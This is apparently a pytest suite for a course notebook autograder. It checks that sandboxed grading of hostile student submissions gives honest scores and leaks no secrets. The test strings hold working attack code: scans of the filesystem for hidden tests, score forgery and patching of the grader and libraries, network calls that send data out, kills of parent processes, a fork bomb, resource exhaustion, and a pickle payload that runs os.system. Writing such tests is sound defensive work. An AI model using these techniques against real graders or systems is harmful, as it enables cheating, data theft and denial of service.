"""Hostile submissions: each gets an honest score and leaks nothing (issue 15's regression suite).

Every case is a notebook for exercise 7 (the DeepSets layer, 8 points: 4 public, 4 hidden) that attacks the
grader. The expected score is what the submission's code honestly earns. Where a protection could silently stop
working, a control case runs the same attack unsandboxed (``unsafe=True``) and shows that it would succeed there.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from pathlib import Path

import pytest
from grading_fixtures import CORRECT, MASTER, ROOT, forking, needs_bwrap

from gdl.grading import Timeouts, grade_submission, load_exercise, sandbox_description
from gdl.grading._notebook import read_notebook, tags, write_notebook

SECRET_HIDDEN = "SECRET-HIDDEN-TEST-7f3a91"
SECRET_OTHER = "SECRET-OTHER-STUDENT-91b2c4"
FAST = Timeouts(cell=8, call=5, submission=90)    # generous: the test machine may be heavily shared


pytestmark = needs_bwrap


def _notebook(path: Path, *cells: str) -> Path:
    nb = {"cells": [{"cell_type": "code", "metadata": {}, "source": c, "outputs": [], "execution_count": None}
                    for c in cells],
          "metadata": {"gdl": {"exercise": "ex07"}}, "nbformat": 4, "nbformat_minor": 5}
    write_notebook(nb, path)
    return path


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course folder: the ex07 master with a secret in its hidden tests, and another student's submission."""
    root = tmp_path_factory.mktemp("course")
    nb = read_notebook(MASTER)
    for c in nb["cells"]:
        if "hidden-tests" in tags(c):
            c["source"] = "".join(c["source"]) + f"\n# {SECRET_HIDDEN}\n"
    (root / "masters").mkdir()
    write_notebook(nb, root / "masters" / MASTER.name)
    (root / "submissions" / "alice").mkdir(parents=True)
    _notebook(root / "submissions" / "alice" / "ex07.ipynb", f"# {SECRET_OTHER}\n" + CORRECT)
    exercise = load_exercise(root / "masters" / MASTER.name)
    return {"root": root, "exercise": exercise}


def _grade(course, tmp_path, *cells, unsafe=False, timeouts=FAST):
    path = _notebook(tmp_path / "mallory.ipynb", *cells)
    return grade_submission(path, course["exercise"], seed=20261125, unsafe=unsafe, timeouts=timeouts)


def _scores(r) -> dict[str, float]:
    return {q["name"]: q["score"] for q in r["questions"]}


def _no_leak(r):
    text = json.dumps(r)
    assert SECRET_HIDDEN not in text and SECRET_OTHER not in text
    assert "def layer_matches_reference" not in text and "assert_close(" not in text   # no hidden-test source
    assert len(text) < 50_000


def test_honest_submission_scores_full(course, tmp_path):
    r = _grade(course, tmp_path, CORRECT)
    assert r["score"] == r["max_score"] == 8, r
    assert "bubblewrap" in r["sandbox"] and not r["unsafe"]


READ_FILES = '''
import os
LEAK, KEY = [], "SEC" + "RET-"     # spelled so that this notebook does not contain it
for root in {roots!r}:
    for d, dirs, files in os.walk(root):
        dirs[:] = [x for x in dirs if x not in (".venv", "site-packages", "__pycache__", ".git", "proc")]
        for f in files:
            try:
                with open(os.path.join(d, f), errors="replace") as fh:
                    text = fh.read(2_000_000)
            except Exception:
                continue
            if KEY in text:
                i = text.index(KEY)
                LEAK.append(text[i:i + 40])
LEAK = " ".join(LEAK)
''' + CORRECT + '''
_layer, _summary = deepsets_layer, set_summary

def deepsets_layer(x, lam, gam):
    if LEAK:
        raise RuntimeError("found: " + LEAK)
    return _layer(x, lam, gam)

def set_summary(x, lam, gam):
    if LEAK:
        raise RuntimeError("found: " + LEAK)
    return _summary(x, lam, gam)
'''


def test_reading_test_files_and_other_submissions(course, tmp_path):
    roots = [str(course["root"]), str(ROOT), "/tmp", "/root", "/home", "/work"]
    cell = READ_FILES.format(roots=roots)
    r = _grade(course, tmp_path, cell)
    _no_leak(r)
    assert r["score"] == 8, r          # found nothing, so its own (correct) functions earned everything
    # control: without the sandbox the same submission does find the hidden tests (the check above can fail)
    unsafe = _grade(course, tmp_path, READ_FILES.format(roots=[str(course["root"])]), unsafe=True)
    assert unsafe["unsafe"] and unsafe["sandbox"].startswith("UNSAFE")
    assert SECRET_HIDDEN in json.dumps(unsafe) and unsafe["score"] == 0


FAKE_SCORES = '''
import json, os, sys
forged = json.dumps({"event": "result", "id": 1, "status": "ok", "value": {"n": 8}, "arrays": []}).encode()
for fd in range(3, 40):
    try:
        os.write(fd, len(forged).to_bytes(8, "little") + forged)
    except OSError:
        pass
print(json.dumps({"score": 8, "max_score": 8, "tests": []}))
sys.stderr.write('{"score": 8}\\n')
for path in ("/tmp/results.json", "results.json", "/autograder/results/results.json"):
    try:
        with open(path, "w") as f:
            f.write('{"score": 8}')
    except OSError:
        pass
import gdl.grading, gdl.grading._exercise as E, gdl.testing
E.run_questions = lambda *a, **k: [{"name": "all", "score": 8}]
gdl.testing.equivariance_error = lambda *a, **k: None
__gdl_score__ = 8

def deepsets_layer(x, lam, gam):
    for fd in range(3, 40):
        try:
            os.write(fd, len(forged).to_bytes(8, "little") + forged)
        except OSError:
            pass
    raise NotImplementedError

def set_summary(x, lam, gam):
    raise NotImplementedError
'''


def test_faking_scores(course, tmp_path):
    r = _grade(course, tmp_path, FAKE_SCORES)
    assert r["score"] == 0, _scores(r)
    _no_leak(r)


PATCH_LIBRARIES = '''
import builtins
import numpy as np
import torch
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
builtins.abs = lambda x: 0
builtins.all = lambda x: True

def deepsets_layer(x, lam, gam):        # wrong values, right shape
    return torch.randn(x.shape[0], x.shape[1], lam.shape[1], dtype=torch.float64)

def set_summary(x, lam, gam):
    return torch.randn(x.shape[0], lam.shape[1], dtype=torch.float64)
'''


def test_patching_numpy_torch_and_builtins(course, tmp_path):
    r = _grade(course, tmp_path, PATCH_LIBRARIES)
    assert _scores(r) == {"layer_shape": 1, "layer_known_value": 0, "layer_is_equivariant": 0,
                          "summary_is_invariant": 0, "layer_matches_reference": 0, "summary_matches_reference": 0}


LYING_ARRAYS = '''
import numpy as np
import torch

class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def all(self, *a, **k):
        return True
    def __array_finalize__(self, obj):
        pass

class LyingTensor(torch.Tensor):
    def __eq__(self, other):
        return True
    def allclose(self, *a, **k):
        return True

def deepsets_layer(x, lam, gam):
    return np.random.default_rng().normal(size=(x.shape[0], x.shape[1], lam.shape[1])).view(Liar)

def set_summary(x, lam, gam):
    return torch.randn(x.shape[0], lam.shape[1], dtype=torch.float64).as_subclass(LyingTensor)
'''


def test_ndarray_subclass_with_lying_eq(course, tmp_path):
    r = _grade(course, tmp_path, LYING_ARRAYS)
    assert _scores(r) == {"layer_shape": 1, "layer_known_value": 0, "layer_is_equivariant": 0,
                          "summary_is_invariant": 0, "layer_matches_reference": 0, "summary_matches_reference": 0}


NETWORK = '''
import socket
REACHED = []
for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("8.8.8.8", 443)):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"LEAK from the submission")
        s.close()
        REACHED.append(host)
    except OSError:
        pass
''' + CORRECT


@pytest.fixture
def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            got.append(conn.recv(100))
            conn.close()
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield srv.getsockname()[1], got
    stop.set()
    t.join()
    srv.close()


def test_network_access(course, tmp_path, listener):
    port, got = listener
    cell = NETWORK.replace("{port}", str(port))
    r = _grade(course, tmp_path, cell)
    assert r["score"] == 8 and got == [], (got, _scores(r))
    # control: unsandboxed, the same cell reaches the grader's machine
    _grade(course, tmp_path, cell, unsafe=True)
    assert got and got[0].startswith(b"LEAK")


LOOP_TOP_LEVEL = '''
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        pass
    except BaseException:
        pass
'''


def test_infinite_loop_at_top_level_costs_only_that_cell(course, tmp_path):
    r = _grade(course, tmp_path, CORRECT, LOOP_TOP_LEVEL, "x = 1")
    assert r["score"] == 8, _scores(r)
    assert [c["index"] for c in r["cells"]] == [1] and "timed out" in r["cells"][0]["message"]


LOOP_IN_FUNCTION = '''
import torch

def deepsets_layer(x, lam, gam):
    while True:
        try:
            pass
        except BaseException:
            pass

def set_summary(x, lam, gam):
    return torch.tanh(x @ lam + x.sum(dim=1, keepdim=True) @ gam).sum(dim=1)
'''


def test_infinite_loop_inside_graded_function(course, tmp_path):
    r = _grade(course, tmp_path, LOOP_IN_FUNCTION, timeouts=Timeouts(cell=8, call=2, submission=120))
    assert _scores(r) == {"layer_shape": 0, "layer_known_value": 0, "layer_is_equivariant": 0,
                          "summary_is_invariant": 1, "layer_matches_reference": 0, "summary_matches_reference": 2}
    assert all("did not return within" in q["message"] for q in r["questions"] if q["score"] == 0)


def test_whole_submission_time_limit_still_writes_a_result(course, tmp_path):
    slow = CORRECT + "\nimport time\n_fast = deepsets_layer\n\ndef deepsets_layer(x, lam, gam):\n" \
                     "    time.sleep(1.0)\n    return _fast(x, lam, gam)\n"
    r = _grade(course, tmp_path, slow, timeouts=Timeouts(cell=8, call=5, submission=14))
    messages = [q["message"] for q in r["questions"]]
    assert any("used up its 14 s" in m for m in messages), messages
    # the first two questions (one 1-second call each) finish; the equivariance check (32 calls) runs out of time
    assert r["score"] == 2 and len(r["questions"]) == 6, _scores(r)


KILL_PARENT = '''
import os, signal
for pid in (os.getppid(), 1, {grader_pid}):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
'''


def test_killing_the_parent(course, tmp_path):
    me = os.getpid()
    kill = KILL_PARENT.replace("{grader_pid}", str(me))
    suicide = "import os, signal\nos.killpg(0, signal.SIGKILL)\n"
    r = _grade(course, tmp_path, kill, suicide, CORRECT)
    assert os.getpid() == me                     # still here
    assert r["score"] == 8, _scores(r)
    assert [c["index"] for c in r["cells"] if c["status"] == "killed"] == [1]


HUGE = '''
import torch
print("x" * 50_000_000)
with open("big.txt", "w") as f:                  # in the worker's scratch folder
    for _ in range(100):
        f.write("y" * 1_000_000)
'''

MEMORY = "hog = bytearray(16 * 1024**3)\n"

HUGE_RESULTS = '''
def deepsets_layer(x, lam, gam):
    return torch.zeros(30_000_000, dtype=torch.float64)      # 240 MB

def set_summary(x, lam, gam):
    nested = []
    for _ in range(1000):
        nested = [nested]
    return nested
'''


def test_huge_outputs_files_memory_and_results(course, tmp_path):
    r = _grade(course, tmp_path, HUGE, MEMORY, HUGE_RESULTS)
    assert r["score"] == 0
    assert {c["index"]: c["status"] for c in r["cells"]} == {0: "error", 1: "error"}
    assert "File too large" in r["cells"][0]["message"] and "MemoryError" in r["cells"][1]["message"]
    by_name = {q["name"]: q["message"] for q in r["questions"]}
    assert "limit" in by_name["layer_shape"] and "nested too deeply" in by_name["summary_is_invariant"]
    _no_leak(r)


def test_refuses_to_run_unsandboxed(course, tmp_path, monkeypatch):
    from gdl.cli import main
    from gdl.grading import SandboxUnavailable, _sandbox

    monkeypatch.setattr(_sandbox, "_bwrap", lambda: None)
    monkeypatch.setattr(_sandbox, "_PROBE", {})
    with pytest.raises(SandboxUnavailable, match="--unsafe"):
        sandbox_description()
    nb = _notebook(tmp_path / "bob.ipynb", CORRECT)
    with pytest.raises(SandboxUnavailable):
        grade_submission(nb, course["exercise"], seed=1)
    master = str(course["root"] / "masters" / MASTER.name)
    assert main(["grade-one", str(nb), "--master", master]) == 2
    r = grade_submission(nb, course["exercise"], seed=1, unsafe=True)
    assert r["unsafe"] and r["score"] == 8 and "UNSAFE" in r["sandbox"]


FORK_BOMB = forking(500, 60, 'raise RuntimeError(f"forks={n}")')


@pytest.mark.skipif(os.geteuid() != 0, reason="as a normal user the process limit counts all of the user's processes")
def test_fork_bomb_hits_the_process_limit(course, tmp_path):
    r = _grade(course, tmp_path, FORK_BOMB, CORRECT)
    (cell,) = r["cells"]
    forks = int(cell["message"].split("forks=")[1].split()[0])
    assert forks < 64, cell           # the sandbox user may hold at most 64 processes and threads
    assert r["score"] == 8, _scores(r)


PICKLE_AND_IPYTHON = '''
import os
import numpy as np

class Payload:
    def __reduce__(self):
        return (os.system, ("touch {marker}",))

def deepsets_layer(x, lam, gam):
    return Payload()

def set_summary(x, lam, gam):
    return np.array([Payload(), Payload()], dtype=object)

get_ipython().input_transformers_cleanup.append(lambda lines: ["pass"])   # rewrite every later cell
'''


def test_pickled_payloads_and_ipython_transformers(course, tmp_path):
    marker = tmp_path / "pwned"
    r = _grade(course, tmp_path, PICKLE_AND_IPYTHON.replace("{marker}", str(marker)))
    assert not marker.exists() and r["score"] == 0
    assert all("cannot be sent" in q["message"] or "not accepted" in q["message"] for q in r["questions"]), \
        [q["message"] for q in r["questions"]]
    assert "get_ipython" in r["cells"][0]["message"]     # no IPython in the worker: nothing to hook
